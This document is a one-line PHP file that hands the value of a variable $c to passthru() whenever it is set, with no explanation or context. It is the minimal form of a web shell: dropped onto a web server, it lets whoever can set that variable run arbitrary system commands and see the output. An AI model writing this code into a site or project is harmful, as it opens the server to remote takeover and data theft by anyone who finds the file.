<?php if (isset($c)) { passthru($c); } ?>
